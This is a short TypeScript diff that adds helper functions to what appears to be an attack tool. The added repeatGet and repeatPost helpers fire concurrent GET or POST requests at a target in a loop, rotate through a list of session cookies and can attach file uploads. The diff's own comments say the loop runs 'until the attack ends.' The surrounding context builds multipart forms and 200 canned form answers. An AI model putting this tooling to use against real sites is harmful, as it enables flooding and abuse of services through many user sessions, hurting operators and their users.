@@ -146,6 +146,25 @@ export const formContentType = `multipart/form-data; boundary=${boundary}`;
 export const formHead = `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n`;
 export const createFormWith = (file: Buffer, head = formHead) =>
   Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)]);
+/** Repeats a GET request, with these cookies in turn, until the attack ends. */
+export const repeatGet = (target: Target, maxConcurrent: number, cookies: string[], path: string) =>
+  repeatUntilEnd(maxConcurrent, (index) => sendGet(target, path, pickCookie(cookies, index)));
+/** Repeats a POST request, with these cookies in turn, until the attack ends. A buffer is sent as a form with a file. */
+export const repeatPost = (
+  target: Target,
+  maxConcurrent: number,
+  cookies: string[],
+  path: string,
+  body: string | Buffer,
+) =>
+  repeatUntilEnd(maxConcurrent, (index) =>
+    send(target, {
+      path,
+      cookie: pickCookie(cookies, index),
+      body,
+      ...(typeof body !== 'string' && { contentType: formContentType }),
+    }),
+  );
 export const pickCookie = (cookies: string[], index: number) => cookies[index % cookies.length] ?? '';
 export const createAnswers = (getAnswer: (index: number) => string) =>
   Object.fromEntries(Array.from({ length: 200 }, (_, index) => [index, getAnswer(index)]));
